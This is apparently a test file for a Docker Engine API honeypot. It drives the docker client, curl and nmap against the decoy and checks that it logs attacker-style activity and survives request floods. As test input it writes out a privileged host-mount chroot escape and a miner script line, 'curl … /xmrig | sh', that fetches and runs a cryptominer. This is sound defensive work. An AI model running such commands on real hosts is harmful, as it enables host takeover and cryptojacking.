import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { NODE_ID, Relay, removeDir, run, startPot, type Pot } from "./harness";
import { rssKb } from "./hostile";

const TIMESTAMP = expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
const ALPINE_ID = "uid=0(root) gid=0(root) groups=0(root),1(bin),2(daemon),3(sys),4(adm),6(disk),10(wheel),11(floppy),20(dialout),26(tape),27(video)\n";

let relay: Relay;
let pot: Pot<"docker">;
let home: string;
/** The API version the client settles on: the daemon's 1.45, or less for an older client (Debian 12's 20.10 speaks 1.41). */
let api: string;

beforeAll(async () => {
  relay = Relay.start();
  pot = await startPot("docker", { docker_port: "0" }, relay);
  home = mkdtempSync(join(tmpdir(), "honeybee-docker-cli-"));
  const probe = await docker(pot.ports.docker, ["version", "--format", "{{.Client.APIVersion}}"]);
  api = probe.stdout.trim();
  expect(api).toMatch(/^1\.(4[1-5])$/);
});

afterAll(async () => {
  if (pot.proc.exitCode === null) await pot.stop();
  relay.stop();
  removeDir(pot.dir);
  rmSync(home, { recursive: true, force: true });
});

/** The docker client with a config folder of its own, so it writes nothing anywhere else. */
function clientEnv(): Record<string, string> {
  return { PATH: process.env.PATH ?? "", HOME: home, DOCKER_CONFIG: join(home, ".docker"), DOCKER_CLI_HINTS: "false" };
}

function docker(port: number, args: string[], stdin?: string) {
  return run(["docker", "-H", `tcp://127.0.0.1:${port}`, ...args], stdin, clientEnv());
}

describe("the docker client", () => {
  test("version names Docker Engine 26.1.4 and its API, and every request is recorded", async () => {
    const seen = new Set(relay.all);
    const r = await docker(pot.ports.docker, ["version"]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("Server: Docker Engine - Community\n Engine:\n  Version:          26.1.4\n  API version:      1.45 (minimum version 1.24)\n  Go version:       go1.21.11\n  Git commit:       de5c9cf\n");
    expect(r.stdout).toContain(" containerd:\n  Version:          1.6.33\n");
    const version = await relay.next((e) => !seen.has(e) && e.eventid === "docker.request" && e.path === `/v${api}/version`);
    expect(version).toEqual({
      eventid: "docker.request",
      method: "GET",
      path: `/v${api}/version`,
      query: "",
      user_agent: expect.stringMatching(/^Docker-Client\/\d+\.\d+\.\d+\S* \(linux\)$/),
      body: "",
      body_size: 0,
      src_ip: "127.0.0.1",
      src_port: expect.any(Number),
      dst_ip: "127.0.0.1",
      dst_port: pot.ports.docker,
      protocol: "http",
      session: expect.stringMatching(/^[0-9a-f]{12}$/),
      timestamp: TIMESTAMP,
      pot_id: "docker-test",
      pot_type: "docker",
      node_id: expect.anything(),
    });
    expect(relay.lines.find((l) => l.includes(`"path":"/v${api}/version"`))).toContain(`"node_id":${NODE_ID}`);
    await relay.event("docker.session.closed", { session: version.session });
    expect(relay.session(version.session).map((e) => [e.eventid, e.method, e.path])).toEqual([
      ["docker.session.connect", undefined, undefined],
      ["docker.request", "HEAD", "/_ping"],
      ["docker.request", "GET", `/v${api}/version`],
      ["docker.session.closed", undefined, undefined],
    ]);
  });

  test("info shows an Ubuntu 22.04 host with overlay2, and the warning of a daemon without TLS", async () => {
    const r = await docker(pot.ports.docker, ["info"]);
    expect(r.code).toBe(0);
    for (const line of [" Server Version: 26.1.4\n", " Storage Driver: overlay2\n", " Operating System: Ubuntu 22.04.4 LTS\n", " Kernel Version: 5.15.0-112-generic\n", " Name: docker-host\n", " CPUs: 8\n"]) {
      expect(r.stdout).toContain(line);
    }
    expect(r.stderr).toContain(`WARNING: API is accessible on http://0.0.0.0:${pot.ports.docker} without encryption.`);
  });

  test("run --rm --privileged -v /:/mnt pulls, creates, attaches, starts, prints the host's id and exits; the events carry the whole container", async () => {
    const r = await docker(pot.ports.docker, ["run", "--rm", "--privileged", "-v", "/:/mnt", "-e", "WALLET=4AbC", "alpine", "chroot", "/mnt", "sh", "-c", "id"]);
    expect(r).toMatchObject({ code: 0, stdout: "uid=0(root) gid=0(root) groups=0(root)\n" });
    expect(r.stderr).toContain("Unable to find image 'alpine:latest' locally\nlatest: Pulling from library/alpine\n");
    expect(r.stderr).toContain("Status: Downloaded newer image for alpine:latest\n");
    // Docker 28 asks for docker.io/library/alpine, Debian 12's 20.10 for alpine.
    expect(await relay.event("docker.image.pull")).toMatchObject({ image: "alpine", tag: "latest", from_image: expect.stringMatching(/^(docker\.io\/library\/)?alpine$/), present: false });
    const create = await relay.event("docker.container.create", { result: "created", image: "alpine" });
    // Bun's toMatchObject writes the matchers into the object it checks: assert on copies.
    expect({ ...create }).toMatchObject({
      name: expect.stringMatching(/^[a-z]+_[a-z]+$/),
      image: "alpine",
      cmd: ["chroot", "/mnt", "sh", "-c", "id"],
      entrypoint: [],
      command: "chroot /mnt sh -c id",
      env: ["WALLET=4AbC"],
      binds: ["/:/mnt"],
      privileged: true,
      network_mode: "default",
      pid_mode: "",
      cap_add: [],
      auto_remove: true,
      container_id: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    // The first try, refused until the image was pulled, is recorded too.
    expect(await relay.event("docker.container.create", { result: "no_such_image" })).toMatchObject({ image: "alpine", privileged: true, container_id: null });
    expect(await relay.event("docker.command.input", { container_id: create.container_id })).toMatchObject({ input: "chroot /mnt sh -c id", source: "container.create", session: create.session });
    expect(await relay.event("docker.container.start", { container_id: create.container_id })).toMatchObject({ command: "chroot /mnt sh -c id", image: "alpine" });
    const attach = await relay.next((e) => e.eventid === "docker.request" && e.path === `/v${api}/containers/${create.container_id}/attach`);
    expect(attach.query).toBe("stderr=1&stdout=1&stream=1");
  });

  test("a detached container stays up: ps lists it, exec answers, exec -i reads a script, cp is captured", async () => {
    const started = await docker(pot.ports.docker, ["run", "-d", "alpine", "sleep", "3600"]);
    expect(started.code).toBe(0);
    const id = started.stdout.trim();
    expect(id).toMatch(/^[0-9a-f]{64}$/);

    const ps = await docker(pot.ports.docker, ["ps", "-a"]);
    expect(ps.code).toBe(0);
    const row = ps.stdout.split("\n").find((l) => l.startsWith(id.slice(0, 12)));
    expect(row).toMatch(/^[0-9a-f]{12} +alpine +"sleep 3600" +.* ago +Up .*[a-z]+_[a-z]+$/);
    expect(ps.stdout).toMatch(/ nginx:latest +"nginx -g 'daemon of…" +2 weeks ago +Up 2 weeks +web\n/);

    expect(await docker(pot.ports.docker, ["exec", id.slice(0, 12), "id"])).toMatchObject({ code: 0, stdout: ALPINE_ID });
    expect(await relay.event("docker.exec.create", { container_id: id })).toMatchObject({ cmd: ["id"], command: "id", exec_id: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(await relay.event("docker.command.input", { container_id: id, source: "exec.create" })).toMatchObject({ input: "id" });

    const interactive = await docker(pot.ports.docker, ["exec", "-i", id, "sh"], "hostname\ncat /etc/alpine-release\nexit\n");
    expect(interactive).toMatchObject({ code: 0, stdout: `${id.slice(0, 12)}\n3.20.3\n` });
    expect(await relay.event("docker.command.input", { container_id: id, source: "stdin", input: "cat /etc/alpine-release" })).toMatchObject({ exec_id: expect.stringMatching(/^[0-9a-f]{64}$/) });

    const file = join(home, "miner.sh");
    writeFileSync(file, "#!/bin/sh\ncurl -s http://203.0.113.9/xmrig | sh\n");
    expect(await docker(pot.ports.docker, ["cp", file, `${id}:/tmp/`])).toMatchObject({ code: 0 });
    const upload = await relay.event("docker.session.file_upload", { container_id: id });
    expect({ ...upload }).toMatchObject({ filename: "miner.sh", destfile: "/tmp/", shasum: expect.stringMatching(/^[0-9a-f]{64}$/), outfile: `outbox/${upload.shasum}` });
    const tar = readFileSync(join(pot.dir, upload.outfile));
    expect(createHash("sha256").update(tar).digest("hex")).toBe(upload.shasum);
    expect(upload.size).toBe(tar.length);
    expect(tar.toString("latin1")).toContain("curl -s http://203.0.113.9/xmrig | sh");

    expect(await docker(pot.ports.docker, ["logs", id])).toMatchObject({ code: 0, stdout: "", stderr: "" });
    expect(await docker(pot.ports.docker, ["rm", "-f", id])).toMatchObject({ code: 0, stdout: `${id}\n` });
  });

  test("curl: unknown paths are dockerd's 404, OPTIONS its 200, and a body past body_max_bytes is refused with 413", async () => {
    const base = `http://127.0.0.1:${pot.ports.docker}`;
    const notFound = await run(["curl", "-s", "-i", "--http1.0", `${base}/`]);
    expect(notFound.stdout).toMatch(/^HTTP\/1\.0 404 Not Found\r\nContent-Type: application\/json\r\nDate: .*\r\nContent-Length: 29\r\n\r\n\{"message":"page not found"\}\n$/);
    const options = await run(["curl", "-s", "-i", "-X", "OPTIONS", `${base}/`]);
    expect(options.stdout).toMatch(/^HTTP\/1\.1 200 OK\r\nApi-Version: 1\.45\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker\/26\.1\.4 \(linux\)\r\nDate: .*\r\nContent-Length: 0\r\n\r\n$/);
    const big = join(home, "big.json");
    writeFileSync(big, `{"Image":"alpine","Env":["${"A".repeat(300_000)}"]}`);
    const refused = await run(["curl", "-s", "-i", "-H", "Content-Type: application/json", "--data-binary", `@${big}`, `${base}/containers/create`]);
    expect(refused.stdout).toStartWith("HTTP/1.1 413 Request Entity Too Large\r\n");
    expect(refused.stdout).toEndWith('{"message":"http: request body too large"}\n');
  });

  test("nmap -sV names the Docker Engine API with its version", async () => {
    const r = await run(["nmap", "-sV", "-Pn", "-p", String(pot.ports.docker), "127.0.0.1"]);
    expect(r.code).toBe(0);
    const line = r.stdout.split("\n").find((l) => l.startsWith(`${pot.ports.docker}/tcp`));
    console.log(`nmap: ${line}`);
    expect(line).toMatch(/open +docker +Docker 26\.1\.4 \(API 1\.45\)/);
    expect(r.stdout).not.toContain("SF-Port");
  }, 180_000);
});

/** Sends `data` on a new connection and resolves with what came back once the pot closed it. */
function blast(port: number, data: Uint8Array | string): Promise<string> {
  const { promise, resolve } = Promise.withResolvers<string>();
  const socket = connect(port, "127.0.0.1");
  let got = "";
  socket.on("data", (d) => (got += d.toString("latin1")));
  socket.on("error", () => {});
  socket.on("close", () => resolve(got));
  socket.on("connect", () => socket.write(data));
  return promise;
}

describe("hostile input", () => {
  test("garbage, floods and a connection storm leave the pot up and small, and a real client is recorded during and after", async () => {
    const hostile = Relay.start();
    const target = await startPot("docker", { docker_port: "0", max_connections: "16", images: "alpine:latest", containers: "", upload_max_bytes: "1000000" }, hostile);
    const port = target.ports.docker;
    const storm: Socket[] = [];
    try {
      // A client whose container reads its stdin, attached before the storm and fed during it.
      const during = Bun.spawn(["docker", "-H", `tcp://127.0.0.1:${port}`, "run", "-i", "--rm", "alpine", "sh"], { stdin: "pipe", stdout: "pipe", stderr: "pipe", env: clientEnv() });
      const duringOut = new Response(during.stdout).text();
      const { container_id: id } = await hostile.event("docker.container.start");

      const random = new Uint8Array(8 * 1024 * 1024);
      for (let i = 0; i < random.length; i += 65536) crypto.getRandomValues(random.subarray(i, i + 65536));
      const floods = await Promise.all([
        blast(port, random),
        blast(port, Buffer.alloc(8 * 1024 * 1024, "A")),
        blast(port, `GET / HTTP/1.1\r\nHost: x\r\n${"X-Pad: y\r\n".repeat(20_000)}\r\n`),
        blast(port, `POST /v1.45/containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 50000000\r\n\r\n{"Image":`),
        blast(port, `POST /containers/create HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n${`10000\r\n${"B".repeat(0x10000)}\r\n`.repeat(128)}0\r\n\r\n`),
        blast(port, Buffer.concat([Buffer.from(`PUT /containers/${id}/archive?path=/tmp HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: ${random.length}\r\n\r\n`), random])),
      ]);
      expect(floods[0]).toStartWith("HTTP/1.1 400 Bad Request\r\n");
      expect(floods[1]).toStartWith("HTTP/1.1 431 Request Header Fields Too Large\r\n");
      expect(floods[2]).toStartWith("HTTP/1.1 431 Request Header Fields Too Large\r\n");
      expect(floods[3]).toStartWith("HTTP/1.1 413 Request Entity Too Large\r\n");
      expect(floods[4]).toStartWith("HTTP/1.1 413 Request Entity Too Large\r\n");
      expect(floods[5]).toStartWith("HTTP/1.1 200 OK\r\n");
      expect({ ...(await hostile.event("docker.session.file_upload")) }).toMatchObject({ container_id: id, size: 1_000_000, truncated: true, limit: 1_000_000 });

      const opened = await Promise.all(
        Array.from({ length: 40 }, () => {
          const { promise, resolve } = Promise.withResolvers<Socket>();
          const s = connect(port, "127.0.0.1", () => resolve(s));
          s.on("error", () => {});
          return promise;
        }),
      );
      storm.push(...opened);
      during.stdin.write("echo during the storm\n");
      during.stdin.flush();
      await hostile.event("docker.command.input", { input: "echo during the storm" });
      during.stdin.end();
      expect(await during.exited).toBe(0);
      expect(await duringOut).toBe("during the storm\n");

      const rss = rssKb(target.proc.pid);
      console.log(`docker pot VmRSS after the floods: ${rss} kB`);
      expect(rss).toBeLessThan(150 * 1024);
      expect(target.proc.exitCode).toBeNull();

      for (const s of storm) s.destroy();
      await Promise.all(storm.map((s) => (s.closed ? Promise.resolve() : new Promise((r) => s.once("close", r)))));
      const after = await run(["docker", "-H", `tcp://127.0.0.1:${port}`, "run", "--rm", "alpine", "sh", "-c", "echo after"], undefined, clientEnv());
      expect(after).toMatchObject({ code: 0, stdout: "after\n" });
      const create = await hostile.event("docker.container.create", { command: "sh -c 'echo after'" });
      await hostile.next((e) => e.session === create.session && e.eventid === "docker.session.closed");
      expect(hostile.all.filter((e) => e.eventid === "docker.session.closed" && e.reason === "request body too large")).toHaveLength(2);
    } finally {
      for (const s of storm) s.destroy();
      await target.stop();
      hostile.stop();
      removeDir(target.dir);
    }
  }, 120_000);
});
